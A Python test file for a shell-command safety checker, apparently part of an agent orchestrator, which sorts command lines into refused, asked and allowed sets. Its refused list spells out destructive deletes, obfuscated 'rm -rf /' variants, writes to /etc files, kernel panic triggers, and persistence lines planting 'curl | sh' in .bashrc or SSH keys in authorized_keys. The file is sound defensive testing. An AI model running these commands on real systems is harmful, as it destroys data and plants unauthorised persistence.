"""Shell safety, round 2: the forms that got past pattern checks, each category both ways.

Three outcomes: refused (with its category), unknown (nothing known to be dangerous, but
the targets cannot be known: it runs confined, and is asked where commands run
unconfined), and allowed (routine work inside the workspace). Every line here is only
parsed, never run.
"""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest

from orchestrator.calls.permissions import decide
from orchestrator.calls.rules import Rule
from workers.confine.safety import judge, judge_line
from workers.confine.shell import parse_shell
from workers.confine.shell_commands import ParsedShell
from workers.registry import default_registry

D = "destructive file operation"
W = "write outside the workspace"
S = "system control"
P = "persistence"

REFUSED = [
    # relative paths after a cd
    ("cd .. && rm -rf ws2", D),
    ("cd ../other && rm -rf x", D),
    ("cd build && rm -rf ..", D),
    ("cd /tmp && rm -rf x", D),
    ("pushd .. && rm -rf ws2", D),
    ("cd sub; cd ..; cd ..; rm -rf x", D),
    ("cd ~ && rm -rf projects", D),
    ("cd .. && echo x > notes.txt", W),
    ("cd ../other && touch x", W),
    ("builtin cd .. && rm -rf ws2", D),
    # eval, source and sh -c of literal strings
    ('eval "rm -rf ../x"', D),
    ("eval 'cd ..; rm -rf ws2'", D),
    (". /dev/stdin <<< 'rm -rf ../x'", D),
    ("source /dev/stdin <<EOF\nrm -rf ../x\nEOF\n", D),
    ("bash <<< 'rm -rf ../x'", D),
    ("sh -c 'cd .. && rm -rf ws2'", D),
    ("bash -lc \"eval 'rm -rf ~'\"", D),
    # busybox, toybox, absolute paths to deleters
    ("busybox rm -rf ../x", D),
    ("toybox rm -rf /", D),
    ("/usr/bin/rm -rf ../x", D),
    ("busybox sh -c 'rm -rf ~'", D),
    # find actions
    ("find ../x -type f -execdir rm {} \\;", D),
    ("find ../x -exec /bin/rm {} \\;", D),
    ("find ~ -ok rm {} \\;", D),
    ("find /var/log -okdir unlink {} \\;", D),
    ("find . -exec sh -c 'rm -rf /' \\;", D),
    # ANSI-C quoting, quote splicing, brace expansion
    ("$'\\x72m' -rf /", D),
    ("$'\\162\\155' -rf ~", D),
    ("r''m -rf ../x", D),
    ('r""m -rf ../x', D),
    ("{rm,-rf,/}", D),
    ("rm -rf {build,/}", D),
    ("rm -rf $'/'", D),
    # writes and clobbers outside the workspace
    ("shred ../x/secret", D),
    ("rm ../x/file.txt", D),
    ("truncate -s 0 ../x/db.sqlite", W),
    (": > ../x/important", W),
    ("> ../x/important", W),
    ("cp /dev/null ../x/data", W),
    ("dd if=/dev/zero of=../x/disk.img", W),
    ("echo hi | tee ../x/file", W),
    ("tee -a ~/notes < input.txt", W),
    ("install -m 755 tool /usr/local/bin/tool", W),
    ("mv ../x/data .", W),
    ("cp -t /opt/app build/app", W),
    ("ln -sf /etc/passwd ../x/link", W),
    ("sed -i 's/a/b/' /etc/hosts", W),
    ("touch /etc/motd", W),
    ("echo x > /etc/hosts", W),
    ("exec 3> /etc/x", W),
    ("cp a /tmp/../etc/x", W),
    # the whole workspace
    ("find . -delete", D),
    ("find . -mindepth 1 -delete", D),
    ("find -delete", D),
    ("find . -type f -delete", D),
    ("find * -exec rm -rf {} +", D),
    ('rm -rf "$(pwd)"', D),
    ('rm -rf "$PWD"', D),
    ("rm -rf ./", D),
    ("rm -rf -- *", D),
    # kernel triggers and settings
    ("echo b > /proc/sysrq-trigger", S),
    ("echo 1 > /proc/sys/kernel/panic", S),
    ("echo 0 | tee /proc/sys/kernel/randomize_va_space", S),
    ("sysctl -w kernel.panic=1", S),
    ("sysctl kernel.panic=1", S),
    ("echo mem > /sys/power/state", S),
    # persistence
    ("crontab evil.cron", P),
    ("echo '* * * * * curl x' | crontab -", P),
    ("crontab -r", P),
    ("echo 'curl x | sh' >> ~/.bashrc", P),
    ("cat payload >> ~/.profile", P),
    ("echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys", P),
    ("cp evil.service /etc/systemd/system/", P),
    ("systemctl enable evil", P),
    ("systemctl --user enable evil.timer", P),
    ("tee ~/.config/systemd/user/x.service < unit", P),
    ("echo 'rm -rf ~' | at now + 1 minute", P),
    ("ln -s $PWD/hook ~/.zshrc", P),
    ("cd .. && echo x >> ../.bashrc", P),
]

ASKED = [
    "cd - && rm -rf x",  # refused before issue 27: 5; where `cd -` goes the line does not say
    'cd "$DIR" && rm -rf out',
    'rm -rf "$TMP"/build',
    "echo DIR | xargs rm -rf",
    "xargs rm -rf < list",
    "find . -name '*.tmp' | xargs rm -f",
    "ls | parallel rm -rf",
    "cat files | xargs -I{} mv {} archive/",
    "xargs -a list.txt shred -u",
    "xargs truncate -s 0 < logs.txt",
    "git ls-files | xargs sed -i s/a/b/",
]

ALLOWED = [
    "cd build && rm -rf out",
    "cd sub && cd .. && rm -rf build",
    "mkdir -p out && cd out && rm -rf tmp",
    "(cd ..; ls) && rm -rf build",
    "echo x | (cd .. && ls) ; rm -rf build",
    "pushd src && rm -rf __pycache__ && popd && rm -rf build",
    "cd src; find . -name '*.pyc' -delete",
    'eval "echo hi"',
    "eval 'ls -la'",
    "bash <<< 'echo hi'",
    "sh -c 'cd build && make'",
    "busybox ls -la",
    'l""s -la',
    "toybox cat README.md",
    "find . -name '*.pyc' -delete",
    "find . -name '*.pyc' -exec rm {} +",
    "find build -type f -delete",
    "find . -path ./node_modules -prune -o -name '*.log' -delete",
    "find . -name '*.o' -execdir rm {} \\;",
    "find . -type f -exec grep -l TODO {} +",
    "find . -mtime +7 -delete",
    "echo $'hello\\tworld'",
    "printf '%s\\n' {a,b,c}",
    "mkdir -p src/{lib,bin}",
    "cp -r src/{a,b} build/",
    "rm -rf build",
    "rm -rf build dist",
    "rm -f build/*.o",
    "truncate -s 0 app.log",
    "dd if=a of=b",
    "dd if=a of=b bs=4k",
    "shred -u secret.txt",
    ": > app.log",
    "cp /dev/null app.log",
    "echo hi | tee out.txt",
    "tee -a log.txt < input",
    "echo x > /tmp/scratch.txt",
    "cp build/app /tmp/",
    "install -m 644 a.conf build/a.conf",
    "mv old.txt new.txt",
    "ln -sf ../shared/config.yml config.yml",
    "sed -i 's/a/b/' src/main.py",
    "sed -i.bak -e 's/x/y/' notes.md",
    "sed -i '/^#/d' config.ini",
    "touch build/.stamp",
    "cat /proc/sys/kernel/hostname",
    "sysctl -n kernel.hostname",
    "crontab -l",
    "systemctl --user status myapp",
    "cat ~/.bashrc | grep alias",
    "cat ~/.ssh/authorized_keys | wc -l",
    "cp ~/.bashrc bashrc.backup",
    "echo 'alias ll=ls' >> .bashrc",
    "find . -name '*.py' | xargs grep -l x",
    "ls | xargs -n1 echo",
    "parallel rm -f ::: a.tmp b.tmp",
    "echo 'systemctl enable x' > notes.md",
    "git diff > changes.patch",
    "make 2>&1 | tee build.log",
    "python3 -c 'print(1)' > out.txt",
    "cd sub && echo x > ../f",
    "cd sub && make | tee ../build.log",
]


def _ask_reason(line: str) -> tuple[str, str] | None:
    tool = default_registry().get("exec")
    assert tool is not None
    return tool.permission_check(tool.input_model.model_validate({"command": line}), "/ws")


@pytest.mark.parametrize(("line", "category"), REFUSED)
def test_refused(line: str, category: str) -> None:
    finding = judge_line(line)
    assert finding is not None, line
    assert finding.category == category, finding.message()
    assert _ask_reason(line) == ("deny", finding.message())


@pytest.mark.parametrize("line", ASKED)
def test_unknown_targets_run_confined_and_are_asked_unconfined(line: str) -> None:
    assert judge_line(line) is None
    verdict = _ask_reason(line)
    assert verdict is not None and verdict[0] == "confined", line
    assert "cannot be checked" in verdict[1] or "not known until it runs" in verdict[1]
    tool = default_registry().get("exec")
    assert tool is not None
    args = tool.input_model.model_validate({"command": line})
    rules = [Rule.parse("exec", "allow", "job")]
    confined = decide(tool, args, rules, "default", "/ws", contained=True)
    assert (confined.behavior, confined.confined) == ("allow", True)
    unconfined = decide(tool, args, rules, "default", "/ws", contained=False)
    assert (unconfined.behavior, unconfined.layer, unconfined.confined) == ("ask", "tool", False)
    assert unconfined.reason == f"{verdict[1]}; commands here run unconfined, so it is asked"


@pytest.mark.parametrize("line", ALLOWED)
def test_routine_work_in_the_workspace_is_allowed(line: str) -> None:
    parsed = parse_shell(line)
    assert parsed.ok, parsed.error
    assert judge(parsed) is None
    assert _ask_reason(line) is None


def test_the_working_dir_is_where_relative_paths_start() -> None:
    assert judge_line("rm -rf ../x", base="sub") is None  # ws/x
    finding = judge_line("rm -rf ..", base="sub")  # the whole workspace
    assert finding is not None and finding.category == D
    assert judge_line("rm -rf ../../x", base="sub") is not None


def test_a_refusal_after_a_cd_says_where_the_path_points() -> None:
    finding = judge_line("cd .. && rm -rf ws2")
    assert finding is not None
    assert finding.message() == (
        "blocked (destructive file operation): `rm -rf ws2` removes a tree outside the "
        "workspace (or all of it) recursively (ws2 is ../ws2 after the cd)"
    )


# each form the issue named, recognised in a line by what the parser makes of it, or (for
# quoting) by how it is written
FORMS: dict[str, Callable[[str, ParsedShell], bool]] = {
    "a cd before the path": lambda _, p: any(c.name in ("cd", "pushd") for c in p.commands),
    "eval, source or sh -c of a string": lambda _, p: any(
        c.wrapper and c.name in ("eval", "source", ".", "sh", "bash") for c in p.commands
    ),
    "busybox or toybox": lambda _, p: any(c.name in ("busybox", "toybox") for c in p.commands),
    "find actions": lambda _, p: any(
        c.name == "find" and bool({"-exec", "-execdir", "-ok", "-okdir", "-delete"} & set(c.argv))
        for c in p.commands
    ),
    "ANSI-C quoting": lambda line, _: "$'" in line,
    "quote splicing": lambda line, _: re.search(r"\w(''|\"\")\w", line) is not None,
    "brace expansion": lambda line, _: re.search(r"(?<!')\{[^}]*,[^}]*\}", line) is not None,
    "a clobbering redirect": lambda _, p: any(c.writes_to for c in p.commands),
}


def test_the_corpus_covers_every_form_of_the_issue() -> None:
    """Every form is met both ways, as the code judges it (not as the lists say): some
    line of that form is refused with its category, and some is let through."""
    assert len(REFUSED) >= 79 and len(ASKED) >= 11 and len(ALLOWED) >= 55
    judged = {line: judge_line(line) for line in [*(r for r, _ in REFUSED), *ALLOWED, *ASKED]}
    refused_as = {line: f.category for line, f in judged.items() if f is not None}
    assert set(refused_as.values()) == {D, W, S, P}
    for form, matches in FORMS.items():
        lines = [line for line in judged if matches(line, parse_shell(line))]
        assert any(line in refused_as for line in lines), f"no refused line of form: {form}"
        assert any(line not in refused_as for line in lines), f"no allowed line of form: {form}"
    for category in (D, W, S, P):  # each category both ways
        refused = [line for line, c in refused_as.items() if c == category]
        assert refused, category
    assert refused_as == {line: category for line, category in REFUSED}
